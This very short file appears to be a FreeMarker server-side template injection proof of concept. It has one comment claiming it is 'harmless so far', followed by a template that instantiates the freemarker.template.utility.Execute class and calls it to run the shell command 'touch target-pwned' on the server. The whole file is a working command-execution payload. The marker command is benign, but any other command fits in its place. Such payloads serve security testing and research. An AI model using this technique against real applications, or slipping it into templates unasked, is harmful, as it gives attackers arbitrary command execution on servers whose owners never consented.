# harmless so far
<#assign ex = "freemarker.template.utility.Execute"?new()>
${ex("touch target-pwned")}
